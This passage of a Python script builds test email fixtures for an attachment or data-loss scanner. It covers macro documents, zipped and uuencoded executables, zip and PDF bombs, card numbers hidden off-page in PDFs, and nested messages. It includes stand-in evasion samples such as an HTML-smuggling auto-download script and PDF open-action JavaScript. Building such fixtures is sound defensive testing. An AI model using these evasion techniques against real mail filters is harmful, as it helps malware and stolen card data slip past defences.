                       docx(["Please enable content."],
                            extra=[("word/vbaProject.bin", ole_bytes(["_VBA_PROJECT"]))]),
                       "report.docm"),
        "macro_ole": ("application/msword", ole_bytes(["Macros", "VBA", "_VBA_PROJECT"]),
                      "old.doc"),
        "zip_exe": ("application/zip", zipped([("readme.txt", b"see setup\n"), ("setup.exe", pe)]),
                    "order.zip"),
        "docx_pan": ("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                     docx(["Customer card on file:", "Card " + PAN]), "cards.docx"),
        "xlsx_pan": ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                     xlsx(["Card number", PAN]), "cards.xlsx"),
        "odt_pan": ("application/vnd.oasis.opendocument.text", odt(["Card: " + PAN]), "cards.odt"),
        "pdf_pan": ("application/pdf", pdf([["Billing details", "Card: " + PAN]]), "cards.pdf"),
        "docx_conf": ("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                      docx(["CONFIDENTIAL", "Board minutes"]), "minutes.docx"),
        "xlsx_conf": ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                      xlsx(["CONFIDENTIAL", "Salaries"]), "salaries.xlsx"),
        "odt_conf": ("application/vnd.oasis.opendocument.text", odt(["CONFIDENTIAL", "Plan"]),
                     "plan.odt"),
        "pdf_conf": ("application/pdf", pdf([["CONFIDENTIAL", "Merger plan"]]), "plan.pdf"),
        "msip_docx": ("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                      docx(["Lunch menu"], custom=[
                          ("MSIP_Label_3a402f04-5007-ef5b-ac62-274f9065a302_Enabled", "true"),
                          ("MSIP_Label_3a402f04-5007-ef5b-ac62-274f9065a302_Name",
                           "Confidential")]), "menu.docx"),
        "enc_zip": ("application/zip", encrypt_zip_flags(zipped([("secret.csv", csv_pan)],
                                                                zipfile.ZIP_STORED)),
                    "secret.zip"),
        "enc_pdf": ("application/pdf", pdf([["Secret"]], encrypt=True), "secret.pdf"),
        "enc_office": ("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                       ole_bytes(["EncryptionInfo", "EncryptedPackage"]), "secret.docx"),
        "nested_zip": ("application/zip", zipped([("mid.zip", mid)]), "outer.zip"),
        "gz_csv": ("application/gzip", __import__("gzip").compress(csv_pan, mtime=0),
                   "cards.csv.gz"),
        "tar_csv": ("application/x-tar", None, "cards.tar"),
        "bomb": ("application/zip", bomb, "bomb.zip"),
        "many_members": ("application/zip", many.getvalue(), "many.zip"),
        "five_members": ("application/zip", five, "five.zip"),
        "one_kib": ("application/zip", zipped([("kib.txt", b"x" * 1000)]), "kib.zip"),
        "blob_1000": ("application/octet-stream", bytes(range(250)) * 4, "blob.bin"),
        "pdf_two_pages": ("application/pdf", pdf([["Page one"], ["Page two"]]), "two.pdf"),
        "html_smuggling": ("text/html", b"<html><script>var b = new Blob([atob('AAAA')]);"
                           b"var a = document.createElement('a');"
                           b"a.href = URL.createObjectURL(b); a.download = 'x.iso';"
                           b"a.click();</script></html>", "doc.html"),
        "pdf_js": ("application/pdf", pdf([["Hello"]]).replace(
            b"<< /Type /Catalog", b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> "
            b"/Type /Catalog"), "form.pdf"),
        "benign_pdf": ("application/pdf", pdf([["Agenda for Monday", "Room 4, 10:00"]]),
                       "agenda.pdf"),
        "benign_png": ("image/png", png_bytes(), "chart.png"),
        "benign_jpeg": ("image/jpeg", jpeg_bytes(), "photo.jpg"),
        "benign_docx": ("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                        docx(["Meeting notes", "Order 1234-5678 shipped"]), "notes.docx"),
        "benign_zip": ("application/zip", zipped([("readme.txt", b"Nothing to see.\n")]),
                       "readme.zip"),
    }
    # past what is read of one member: the body over max_bytes (200 KB of
    # prose, the card at its end), properties past 64 KiB (a label last)
    fixtures["docx_big_body"] = (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        docx([filler(200000, 1), "Card " + PAN]), "long.docx")
    fixtures["docx_big_props"] = (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        docx(["Lunch menu"], custom=[("Note%d" % i, filler(1000, i)) for i in range(100)] + [
            ("MSIP_Label_3a402f04-5007-ef5b-ac62-274f9065a302_Name", "Confidential")]),
        "menu.docx")
    # deflate data damaged half way (the card after the damage)
    fixtures["zip_damaged"] = ("application/zip", damage_deflate(zipped([
        ("notes.txt", (filler(100000, 2) + "\nCard " + PAN + "\n").encode())]), "notes.txt"),
        "notes.zip")
    # form XObjects 6 deep, each drawn 10 times: a million lines of text
    fixtures["pdf_xobject_bomb"] = ("application/pdf", pdf_xobject_bomb(6, 10), "bomb.pdf")
    # text drawn off the page (poppler drops it) and text on it
    seen = "BT /F1 11 Tf 72 740 Td (Statement) Tj ET "
    card = "(Card: %s) Tj ET" % PAN
    off = {
        "pdf_off_x": seen + "BT /F1 11 Tf 100000 700 Td " + card,
        "pdf_off_negx": seen + "BT /F1 11 Tf -1000000000 700 Td " + card,
        "pdf_off_y": seen + "BT /F1 11 Tf 72 -500 Td " + card,
        "pdf_off_tm": seen + "BT /F1 11 Tf 1000000 0 0 1000000 0 0 Tm " + card,
        "pdf_off_kern": seen + "BT /F1 11 Tf 72 700 Td [(Total) -10000000 (Card: %s)] TJ ET" % PAN,
    }
    for name, content in off.items():
        fixtures[name] = ("application/pdf", pdf_drawn(content), name[4:] + ".pdf")
    fixtures["pdf_off_form"] = ("application/pdf", pdf_drawn(seen + "q /X0 Do Q", forms=[
        ("q 1 0 0 1 50000 0 cm BT /F1 11 Tf 72 700 Td " + card + " Q", "1 0 0 1 0 0")]),
        "form.pdf")
    words = "(Quarterly figures, as agreed) Tj"
    fixtures["pdf_edge"] = ("application/pdf", pdf_drawn(
        "BT /F1 11 Tf 2 2 Td (1) Tj ET BT /F1 11 Tf 560 780 Td %s ET "
        "BT /F1 11 Tf -20 400 Td %s ET" % (words, words)), "edge.pdf")
    fixtures["pdf_rotated"] = ("application/pdf", pdf_drawn(
        "q 0 1 -1 0 612 0 cm BT /F1 11 Tf 72 500 Td %s ET Q" % words, page_extra="/Rotate 90 "),
        "rotated.pdf")
    fixtures["pdf_a0"] = ("application/pdf", pdf_drawn(
        "BT /F1 96 Tf 100 3200 Td %s ET BT /F1 11 Tf 2000 72 Td %s ET" % (words, words),
        box="0 0 2384 3370"), "poster.pdf")
    fixtures["pdf_form_on_page"] = ("application/pdf", pdf_drawn(
        "q /X0 Do Q q 0.5 0 0 0.5 300 0 cm /X0 Do Q", forms=[
            ("BT /F1 11 Tf 72 700 Td %s T* %s ET" % (words, words), "1 0 0 1 0 -100")]),
        "forms.pdf")
    # a file uuencoded into a text attachment
    import binascii
    uu_pe = b"begin 644 setup.exe\n" + b"".join(
        binascii.b2a_uu(pe[i:i + 45]) for i in range(0, len(pe), 45)) + b"`\nend\n"
    fixtures["uu_pe"] = ("text/plain", b"Install this:\n\n" + uu_pe, "notes.txt")
    # messages as attachments: base64 message/rfc822 (left whole by the
    # MIME parser), an .eml sent as a file, and one nested past the depth
    card_msg = inner_message(("text/plain", ("Card: %s exp 04/29\n" % PAN).encode(), ""))
    fixtures["msg_b64"] = ("message/rfc822", card_msg, "fwd.eml")
    fixtures["eml_octet"] = ("application/octet-stream", inner_message(
        ("text/plain", b"See the attachment.\n", ""),
        ("text/html", ("<p>card <b>%s</b></p>\n" % PAN).encode(), ""),
        ("application/octet-stream", pe, "setup.exe")), "forwarded.eml")
    deep = card_msg
    for _ in range(10):
        m = MIMEMultipart()
        m["Subject"] = "Fwd"
        m.attach(MIMEText("forwarded\n"))
        p = MIMEApplication(deep, "octet-stream")
        p.replace_header("Content-Type", "message/rfc822")
        m.attach(p)
        deep = m.as_bytes()
    fixtures["msg_deep"] = ("message/rfc822", deep, "fwd.eml")
    tar = io.BytesIO()
    import tarfile
    with tarfile.open(fileobj=tar, mode="w", format=tarfile.USTAR_FORMAT) as t:
        ti = tarfile.TarInfo("cards.csv")
        ti.size, ti.mtime = len(csv_pan), 0
        t.addfile(ti, io.BytesIO(csv_pan))
    fixtures["tar_csv"] = ("application/x-tar", tar.getvalue(), "cards.tar")
    for stem, ctype, fname, build in CONTAINERS:
        for what, inner, data in (("exe", "setup.exe", pe), ("pan", "cards.csv", csv_pan)):
            blob = build(inner, data)
            fixtures["%s_%s" % (stem, what)] = (ctype, blob, fname)
            fixtures["%s_%s_txt" % (stem, what)] = (
                "text/plain" if stem in TEXT_CONTAINERS else "application/octet-stream", blob,
                "notes.txt")
    # a TNEF of text alone, an HTML page with an inline image, a mail-like
    # note that is no message: nothing to find; an ARJ with a damaged header:
    # unscannable
    fixtures["benign_tnef"] = ("application/ms-tnef", tnef([], body="See you at ten."),
                               "winmail.dat")
    fixtures["benign_html_img"] = ("text/html", data_uri_html("logo.png", "image/png", png_bytes()),
                                   "page.html")
    fixtures["benign_note_fields"] = ("text/plain", b"To: the team\nSubject: lunch\n\nPizza.\n",
                                      "notes.txt")
    fixtures["benign_rfc822_headers"] = (
        "message/rfc822-headers", b"From: a@example.com\nTo: b@example.org\nSubject: Hi\n"
        b"Content-Type: multipart/alternative; boundary=\"x\"\n", "headers.txt")
    fixtures["msg_body_pan"] = ("application/vnd.ms-outlook",
                                outlook_msg("Order", "Card on file: " + PAN, []), "order.msg")
    damaged = bytearray(arj("setup.exe", pe))
    second = damaged.find(b"\x60\xea", 2)
    damaged[second + 4 + 5] = 7  # the file's method: none ARJ knows
    fixtures["arj_damaged"] = ("application/x-arj", bytes(damaged), "files.arj")
    only = set(sys.argv[2:])
    sizes = []
    for name, (ctype, data, fname) in sorted(fixtures.items()):
        sizes.append("%s %d\n" % (name, len(data)))
        if only and name not in only:
            continue
        with open(os.path.join(out, name + ".eml"), "wb") as f:
            f.write(message(name, ctype, data, fname))
    with open(os.path.join(out, "sizes.txt"), "w") as f:
        f.writelines(sizes)
    if not only or "mixed" in only:
        with open(os.path.join(out, "mixed.eml"), "wb") as f:
            f.write(mixed_message(csv_pan))


if __name__ == "__main__":
    main()
